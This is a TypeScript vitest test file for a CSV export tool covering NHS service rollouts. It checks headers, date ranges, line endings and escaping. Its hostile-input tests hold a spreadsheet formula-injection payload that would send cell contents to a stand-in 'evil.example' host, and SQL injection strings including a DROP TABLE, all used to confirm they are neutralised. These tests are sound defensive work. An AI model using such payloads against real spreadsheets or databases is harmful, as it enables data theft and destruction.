import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PassThrough } from 'node:stream';
import { exportRows } from '../../pipeline/export/export.ts';
import type { FactFilters } from '../../pipeline/export/filters.ts';
import type { Database } from '../../pipeline/load/db.ts';
import { createTestDb, type TestDb } from './test-db.ts';
import { COUNTED_EVENT_IDS, insertDocument, insertEvent, seedRollouts } from './fixture.ts';
import { parseCsv } from './parse-csv.ts';

async function csvOf(db: Database, filters: FactFilters, excel = false): Promise<string> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  await exportRows(db, filters, { format: 'csv', excel, output: out });
  out.end();
  return Buffer.concat(chunks).toString('utf8');
}

const HEADER = [
  'date', 'effective', 'effective_start', 'effective_end', 'service', 'region', 'status', 'provider',
  'target', 'target_start', 'target_end', 'evidence', 'quote', 'speaker', 'source', 'title', 'url',
];
/** Records as objects keyed by the header, so a test reads cells by column name. */
const records = (rows: string[][]) => rows.slice(1).map((r) => Object.fromEntries(HEADER.map((h, i) => [h, r[i]!])));

const WELSH = 'Ysbyty Gwynedd – £5m "new" front door, for urgent care\nopens in July.';
const HYPERLINK = '=HYPERLINK("http://evil.example/steal?x="&A1,"Click for details")';

async function hostileFacts(db: Database): Promise<void> {
  await insertDocument(db, {
    doc_id: 'd-hostile',
    url: 'https://www.example-health-news.org/2014/06/hostile',
    source_id: 'health-news',
    title: HYPERLINK,
    published_at: '2014-06-02',
    paragraphs: [WELSH, '@SUM(A1:A9) is not a sentence.'],
  });
  await insertEvent(db, { event_id: 'h1', doc_id: 'd-hostile', service: 'NHS 111', region: '-1', provider: '+44 20 7946 0000', status: 'planned', target: '2014-07', evidence: WELSH });
  await insertEvent(db, { event_id: 'h2', doc_id: 'd-hostile', service: 'NHS 111', region: '\tTabbed', provider: '\r=1+1', status: 'live', evidence: '@SUM(A1:A9) is not a sentence.' });
}

function expectNeutralised(rows: string[][]): void {
  const body = records(rows);
  expect(body).toHaveLength(2);
  const byStatus = Object.fromEntries(body.map((r) => [r.status, r]));
  expect(byStatus.planned!.region).toBe("'-1");
  expect(byStatus.planned!.provider).toBe("'+44 20 7946 0000");
  expect(byStatus.planned!.evidence).toBe(WELSH);
  expect(byStatus.planned!.title).toBe(`'${HYPERLINK}`);
  expect(byStatus.live!.region).toBe("'\tTabbed");
  expect(byStatus.live!.provider).toBe("'\r=1+1");
  expect(byStatus.live!.evidence).toBe("'@SUM(A1:A9) is not a sentence.");
  // No cell a spreadsheet would evaluate.
  for (const cell of rows.slice(1).flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
}

// One seeded database for the tests that only read; the hostile-text test has its own.
let t: TestDb;
beforeAll(async () => {
  t = await createTestDb();
  await seedRollouts(t.db);
});
afterAll(() => t.cleanup());

describe('CSV export', () => {
  it('has a header a person understands and one record per fact, duplicates counted once', async () => {
    const rows = parseCsv(await csvOf(t.db, {}));
    expect(rows[0]).toEqual(HEADER);
    expect(rows.length - 1).toBe(COUNTED_EVENT_IDS.length);
    const paused = records(rows).filter((r) => r.status === 'paused' && r.provider === 'Derbyshire Health United');
    expect(paused).toHaveLength(1);
    expect(paused[0]!.date).toBe('2013-05-21');
    expect(paused[0]!.url).toBe('https://www.example-gp-press.co.uk/news/111-launch-on-hold');
  });

  it('gives every target and effective date as first and last days, so a spreadsheet sorts them as dates', async () => {
    const body = records(parseCsv(await csvOf(t.db, {})));
    const byTarget = Object.fromEntries(body.filter((r) => r.target).map((r) => [r.target, [r.target_start, r.target_end]]));
    expect(byTarget).toEqual({
      '2013-04': ['2013-04-01', '2013-04-30'],
      '2013-03': ['2013-03-01', '2013-03-31'],
      '2013-08': ['2013-08-01', '2013-08-31'],
      '2014-04': ['2014-04-01', '2014-04-30'],
    });
    for (const r of body) {
      for (const day of [r.target_start, r.target_end, r.effective_start, r.effective_end]) if (day) expect(day).toMatch(/^\d{4}-\d{2}-\d{2}$/);
      expect(r.effective).toBe(r.date); // the fixture's facts took effect when reported
    }
  });

  it('puts the quote and its speaker beside a fact stated in a quotation', async () => {
    const body = records(parseCsv(await csvOf(t.db, { status: 'paused' })));
    const quoted = body.find((r) => r.quote !== '');
    expect(quoted?.quote).toContain('rather launch late');
    expect(quoted?.speaker).toBe('Dr Priya Shah, clinical lead for the programme');
  });

  it('without --excel: no BOM; every record ends CRLF as RFC 4180 requires', async () => {
    const text = await csvOf(t.db, { service: 'NHS App' });
    expect(text.charCodeAt(0)).not.toBe(0xfeff);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replace(/\r\n/g, '')).not.toMatch(/\n/);
  });

  it('with --excel: starts with a UTF-8 BOM and uses CRLF', async () => {
    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (c: Buffer) => chunks.push(c));
    await exportRows(t.db, { service: 'NHS App' }, { format: 'csv', excel: true, output: out });
    const bytes = Buffer.concat(chunks);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.subarray(3).toString('utf8');
    expect(text.split('\r\n')).toHaveLength(3); // header, one fact, final empty
  });

  it('neutralises formulas and keeps quotes, commas, newlines and non-ASCII intact', async () => {
    const own = await createTestDb();
    try {
      await hostileFacts(own.db);
      const rows = parseCsv((await csvOf(own.db, {}, true)).slice(1));
      expectNeutralised(rows);
    } finally {
      own.cleanup();
    }
  });

  it('a filter value holding SQL returns nothing rather than everything', async () => {
    const [{ n: before }] = await t.db.query<{ n: number }>('SELECT count(*) AS n FROM rollout_events');
    for (const filters of [
      { region: "' OR 1=1 --" },
      { service: "NHS 111' OR '1'='1" },
      { provider: "x'); DROP TABLE rollout_events; --" },
      { source: "' OR 1=1 --" },
    ] satisfies FactFilters[]) {
      const rows = parseCsv(await csvOf(t.db, filters));
      expect(rows).toEqual([HEADER]);
    }
    const [{ n }] = await t.db.query<{ n: number }>('SELECT count(*) AS n FROM rollout_events');
    expect(n).toBe(before);
    expect(before).toBeGreaterThan(0);
  });
});
